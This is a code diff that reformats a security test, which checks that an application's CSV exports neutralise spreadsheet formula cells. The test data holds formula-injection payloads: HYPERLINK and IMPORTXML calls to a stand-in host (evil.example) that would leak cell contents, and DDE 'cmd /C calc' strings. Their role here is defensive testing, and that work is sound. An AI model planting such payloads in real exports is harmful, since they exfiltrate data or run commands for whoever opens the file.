@@ -10,7 +10,14 @@ import { toCsv } from '../../server/modules/exports/exports.service';
 import { checklist, finding, getJson, join, login, postEvents } from '../helpers/events';
 
 /** The six starts OWASP names: =, +, -, @, tab and carriage return. */
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 const ADDRESS = '=IMPORTXML("http://evil.example","//a")';
 const DISTRICT = '@evil';
 
@@ -19,11 +26,16 @@ describe('finding 2: CSV exports neutralise formula cells', () => {
   let coordinator: string;
 
   async function download(file: string) {
-    const res = await t.app.inject({ method: 'GET', url: `/api/exports/${file}`, headers: { authorization: `Bearer ${coordinator}` } });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `/api/exports/${file}`,
+      headers: { authorization: `Bearer ${coordinator}` },
+    });
     expect(res.statusCode, res.body).toBe(200);
     return res.body;
   }
-  const rowsOf = (body: string) => parse(body, { comment: '#', columns: true, skip_empty_lines: true }) as Record<string, string>[];
+  const rowsOf = (body: string) =>
+    parse(body, { comment: '#', columns: true, skip_empty_lines: true }) as Record<string, string>[];
 
   beforeAll(async () => {
     t = await buildTestApp('pglite');
@@ -36,7 +48,10 @@ describe('finding 2: CSV exports neutralise formula cells', () => {
     });
     expect(imported.statusCode, imported.body).toBe(200);
     const team = await join(t.app, t.own.joinCodes[0]!.code);
-    const stations = (await getJson(t.app, coordinator, '/api/stations')).body.stations as { id: string; number: string }[];
+    const stations = (await getJson(t.app, coordinator, '/api/stations')).body.stations as {
+      id: string;
+      number: string;
+    }[];
     const station = stations.find((s) => s.number === '4242')!.id;
     const events = PAYLOADS.map((text) => ({ ...finding(team.teamId, station, 'minor'), text }));
     const sheet = checklist(team.teamId, station, 'good');
@@ -73,7 +88,9 @@ describe('finding 2: CSV exports neutralise formula cells', () => {
     expect(line).toContain(',42.87,74.6,');
     // The rule is about text: a negative number is written as a number, the same characters as text are neutralised.
     expect(toCsv([[-3, '-3', 0, 'plain']])).toBe(`-3,"'-3",0,plain\n`);
-    const geo = JSON.parse(await download('stations.geojson')) as { features: { properties: { number: string; address: string; district: string } }[] };
+    const geo = JSON.parse(await download('stations.geojson')) as {
+      features: { properties: { number: string; address: string; district: string } }[];
+    };
     const feature = geo.features.find((f) => f.properties.number === '4242')!;
     expect(feature.properties).toMatchObject({ address: ADDRESS, district: DISTRICT });
     const findings = JSON.parse(await download('findings.geojson')) as { features: { properties: { text: string } }[] };
